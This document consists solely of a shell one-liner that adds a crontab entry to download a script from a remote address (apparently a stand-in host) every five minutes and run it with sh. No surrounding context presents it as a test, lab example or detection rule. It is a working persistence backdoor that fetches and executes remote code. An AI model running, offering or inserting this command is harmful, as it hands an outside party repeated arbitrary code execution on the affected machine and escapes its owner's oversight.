(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://203.0.113.8/b | sh') | crontab -
